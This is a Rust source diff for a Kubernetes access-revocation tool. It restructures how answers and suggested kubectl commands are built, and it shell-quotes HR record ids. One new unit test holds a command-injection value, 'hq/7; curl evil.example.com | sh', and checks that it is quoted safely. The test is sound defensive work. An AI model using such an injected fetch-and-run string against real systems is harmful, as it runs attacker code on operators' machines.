@@ -3,6 +3,7 @@
 use jiff::Timestamp;
 
 use super::answer::{Answer, Command, Freshness, Manages, Next, Role, Says, Source, Told};
+use super::edit::word;
 use super::owned::{Owned, Thing, Whose};
 use super::turns::{RecordTurn, Turn};
 use crate::api::policy::Mode;
@@ -17,38 +18,72 @@ const MAX_LISTED: usize = 20;
 /// Digits of a digest that are shown where nobody has to type it.
 const DIGITS: usize = 12;
 
+/// A part of the answer.
+#[derive(Debug, PartialEq, Eq)]
+pub enum Part {
+    /// A sentence, or several.
+    Says(String),
+    /// Lines under a title.
+    Listed(&'static str, Vec<String>),
+    /// What the reader can do.
+    Do(Vec<Advice>),
+}
+
+/// Something that the reader can do.
+#[derive(Debug, PartialEq, Eq)]
+pub struct Advice {
+    /// The command, as a shell takes it, where there is one.
+    pub command: Option<String>,
+    /// All that is said of it, with the command in it.
+    pub text: String,
+}
+
 /// The whole answer.
 pub fn answer(answer: &Answer, unmask: bool) -> String {
-    let mut parts = vec![who(answer, unmask)];
-    parts.extend(standing(answer));
-    parts.push(section("What the HR records say", answer.says.iter().map(says)));
-    parts.push(section("How new that is", answer.sources.iter().map(source)));
-    parts.push(manages(&answer.policy));
-    parts.extend(
-        answer
-            .hold
-            .as_ref()
-            .map(|hold| format!("A hold keeps their access as it is until {:.0}: {}", hold.until, hold.reason)),
-    );
-    parts.push(owned(&answer.owned));
-    parts.extend(access(answer, unmask));
-    parts.extend(answer.position.lines(&answer.person, unmask));
-    parts.push(match answer.next.as_slice() {
-        [] => "Nothing is to come that is known of.".to_owned(),
-        next => section(
-            "What happens next, unless a new response says otherwise",
-            next.iter().map(|one| coming(one, &answer.policy)),
-        ),
-    });
-    parts.push(match answer.commands.as_slice() {
-        [] => "There is nothing for you to do.".to_owned(),
-        commands => section("What you can do", commands.iter().map(|one| command(one, &answer.namespace))),
-    });
+    let parts: Vec<String> = parts(answer, unmask)
+        .into_iter()
+        .map(|part| match part {
+            Part::Says(text) => text,
+            Part::Listed(title, lines) => section(title, lines),
+            Part::Do(advice) => section(TO_DO, advice.into_iter().map(|one| one.text)),
+        })
+        .collect();
     parts.iter().flat_map(|part| part.lines()).map(plain).collect::<Vec<_>>().join("\n")
 }
 
-fn section(title: &str, lines: impl Iterator<Item = String>) -> String {
-    let lines: Vec<_> = lines.map(|line| format!("  {}", line.replace('\n', "\n    "))).collect();
+/// The title of what the reader can do.
+pub const TO_DO: &str = "What you can do";
+
+/// The answer in its parts.
+pub fn parts(answer: &Answer, unmask: bool) -> Vec<Part> {
+    let listed = |title, lines: Vec<String>| Part::Listed(title, lines);
+    let mut parts = vec![Part::Says(who(answer, unmask))];
+    parts.extend(standing(answer).into_iter().map(Part::Says));
+    parts.push(listed("What the HR records say", answer.says.iter().map(says).collect()));
+    parts.push(listed("How new that is", answer.sources.iter().map(source).collect()));
+    parts.push(Part::Says(manages(&answer.policy)));
+    parts.extend(answer.hold.as_ref().map(|hold| {
+        Part::Says(format!("A hold keeps their access as it is until {:.0}: {}", hold.until, hold.reason))
+    }));
+    parts.push(owned(&answer.owned));
+    parts.extend(access(answer, unmask));
+    parts.extend(answer.position.lines(&answer.person, unmask).into_iter().map(Part::Says));
+    parts.push(match answer.next.as_slice() {
+        [] => Part::Says("Nothing is to come that is known of.".to_owned()),
+        next => listed(
+            "What happens next, unless a new response says otherwise",
+            next.iter().map(|one| coming(one, &answer.policy)).collect(),
+        ),
+    });
+    parts.push(match answer.commands.as_slice() {
+        [] => Part::Says("There is nothing for you to do.".to_owned()),
+        commands => Part::Do(commands.iter().map(|one| advice(one, &answer.namespace)).collect()),
+    });
+    parts
+}
+
+fn section(title: &str, lines: impl IntoIterator<Item = String>) -> String {
+    let lines: Vec<_> = lines.into_iter().map(|line| format!("  {}", line.replace('\n', "\n    "))).collect();
     format!("{title}:\n{}", lines.join("\n"))
 }
 
@@ -303,18 +338,20 @@ fn manages(policy: &Manages) -> String {
     }
 }
 
-fn owned(owned: &Owned) -> String {
+fn owned(owned: &Owned) -> Part {
     match owned {
-        Owned::NotAllowed => {
-            "What they own in the cluster is not known: you may not list ServiceAccounts and bindings of all namespaces.".to_owned()
-        }
+        Owned::NotAllowed => Part::Says(
+            "What they own in the cluster is not known: you may not list ServiceAccounts and bindings of all namespaces."
+                .to_owned(),
+        ),
         Owned::Things(things) if things.is_empty() => {
-            "Nothing in the cluster names them: no owner annotation, and no binding.".to_owned()
+            Part::Says("Nothing in the cluster names them: no owner annotation, and no binding.".to_owned())
         }
         Owned::Things(things) => {
             let more = things.len().saturating_sub(MAX_LISTED);
             let rest = (more > 0).then(|| format!("and {more} more"));
-            section("What names them in the cluster", things.iter().take(MAX_LISTED).map(thing).chain(rest))
+            let lines = things.iter().take(MAX_LISTED).map(thing).chain(rest);
+            Part::Listed("What names them in the cluster", lines.collect())
         }
     }
 }
@@ -329,19 +366,19 @@ fn thing(thing: &Thing) -> String {
 }
 
 /// What happened to their access, and what of it waits.
-fn access(answer: &Answer, unmask: bool) -> Vec<String> {
-    let mut parts: Vec<String> = answer.access.iter().map(|shown| shown.message.clone()).collect();
+fn access(answer: &Answer, unmask: bool) -> Vec<Part> {
+    let mut parts: Vec<Part> = answer.access.iter().map(|shown| Part::Says(shown.message.clone())).collect();
     let (present, earlier): (Vec<_>, Vec<_>) = answer.told.iter().partition(|told| told.present);
     if !present.is_empty() {
         let edits = |what: &str| edit(&answer.owned, what, unmask);
-        parts.push(section("Revocations", present.into_iter().map(|one| told(one, edits))));
+        parts.push(Part::Listed("Revocations", present.into_iter().map(|one| told(one, edits)).collect()));
     }
     if !earlier.is_empty() {
         let names = earlier.iter().map(|told| {
             let not_undone = told.not_undone.as_ref().map(|what| format!(": not undone by itself: {what}"));
             format!("{} ({}){}", told.name, told.phase.as_str(), not_undone.unwrap_or_default())
         });
-        parts.push(section("Revocations of an earlier termination or leave", names));
+        parts.push(Part::Listed("Revocations of an earlier termination or leave", names.collect()));
     }
     parts
 }
@@ -547,42 +584,57 @@ fn there(at: Timestamp, zone: &str) -> String {
     local.map(|local| format!(", {local} in {zone}")).unwrap_or_default()
 }
 
-/// A command, or what to do where there is none.
-fn command(command: &Command, namespace: &str) -> String {
+/// A command, or what to do where there is none. Ids of HR systems may hold anything, and are quoted for a shell.
+pub fn advice(command: &Command, namespace: &str) -> Advice {
+    let run = |command: String, more: &str| Advice { text: format!("{command}{more}"), command: Some(command) };
+    let say = |before: &str, command: String, after: &str| Advice {
+        text: format!("{before}{command}{after}"),
+        command: Some(command),
+    };
+    let by_hand = |text: String| Advice { text, command: None };
     match command {
-        Command::Approve(name) => format!("kubectl rollcall approve {name}"),
+        Command::Approve(name) => run(format!("kubectl rollcall approve {name}"), ""),
         Command::ApproveBatch(batch) => {
-            format!("kubectl rollcall approve --batch {batch}, or reject --batch {batch} --reason …")
+            run(format!("kubectl rollcall approve --batch {batch}"), &format!(", or reject --batch {batch} --reason …"))
         }
-        Command::Waiting => format!("approve or reject what waits: kubectl -n {namespace} get revocations"),
+        Command::Waiting => {
+            say("approve or reject what waits: ", format!("kubectl -n {namespace} get revocations"), "")
+        }
         Command::Unreject(name) => {
-            format!("kubectl rollcall reject --undo {name}, if they are to be revoked after all")
+            run(format!("kubectl rollcall reject --undo {name}"), ", if they are to be revoked after all")
         }
         Command::Retry(name) => {
-            format!("kubectl rollcall retry {name}, after correcting what its verdicts and steps name")
+            run(format!("kubectl rollcall retry {name}"), ", after correcting what its verdicts and steps name")
         }
-        Command::LiftStop => "kubectl rollcall stop --lift".to_owned(),
-        Command::LiftHold(person) => format!("kubectl -n {namespace} edit person {person}, to end spec.hold sooner"),
-        Command::Connection(name) => format!("kubectl -n {namespace} describe hrconnection {name}"),
+        Command::LiftStop => run("kubectl rollcall stop --lift".to_owned(), ""),
+        Command::LiftHold(person) => {
+            run(format!("kubectl -n {namespace} edit person {person}"), ", to end spec.hold sooner")
+        }
+        Command::Connection(name) => run(format!("kubectl -n {namespace} describe hrconnection {name}"), ""),
         Command::Accept(name, response) => {
-            format!("kubectl rollcall accept {name} --response {response}, if that response is right")
+            run(format!("kubectl rollcall accept {name} --response {response}"), ", if that response is right")
         }
-        Command::Policy(name) => format!("kubectl -n {namespace} describe syncpolicy {name}"),
-        Command::CorrectInHr(record) => format!("correct {record} in the HR system"),
+        Command::Policy(name) => run(format!("kubectl -n {namespace} describe syncpolicy {name}"), ""),
+        Command::CorrectInHr(record) => by_hand(format!("correct {record} in the HR system")),
         Command::MapStatuses(connection) => {
-            format!("map the words of status.unmappedStatuses of hrconnection {connection}")
+            by_hand(format!("map the words of status.unmappedStatuses of hrconnection {connection}"))
         }
-        Command::Merge(record) => {
-            format!("kubectl rollcall merge {record} CONNECTION/ID, with their record of the new connection")
-        }
-        Command::Split(record) => {
-            format!("add the connection of {record} to the policy, or wait for it, or kubectl rollcall split {record}")
-        }
-        Command::Revocation(name) => {
-            format!("end by hand what remains, as kubectl -n {namespace} get revocation {name} -o yaml names it")
-        }
+        Command::Merge(record) => by_hand(format!(
+            "kubectl rollcall merge {} CONNECTION/ID, with their record of the new connection",
+            word(record)
+        )),
+        Command::Split(record) => say(
+            &format!("add the connection of {record} to the policy, or wait for it, or "),
+            format!("kubectl rollcall split {}", word(record)),
+            "",
+        ),
+        Command::Revocation(name) => say(
+            "end by hand what remains, as ",
+            format!("kubectl -n {namespace} get revocation {name} -o yaml"),
+            " names it",
+        ),
         Command::Erase(person) => {
-            format!("kubectl rollcall erase {person}, once nothing about them is needed any more")
+            run(format!("kubectl rollcall erase {person}"), ", once nothing about them is needed any more")
         }
     }
 }
@@ -590,6 +642,14 @@ fn command(command: &Command, namespace: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn an_id_of_an_hr_system_is_one_word_of_a_command() {
+        let hostile = Command::Split("hq/7; curl evil.example.com | sh".to_owned());
+        let advice = advice(&hostile, "rollcall");
+        assert_eq!(advice.command.as_deref(), Some("kubectl rollcall split 'hq/7; curl evil.example.com | sh'"));
+        assert!(advice.text.contains(advice.command.as_deref().unwrap()), "{}", advice.text);
+    }
 
     #[test]
     fn every_reason_and_state_has_a_sentence_of_its_own() {
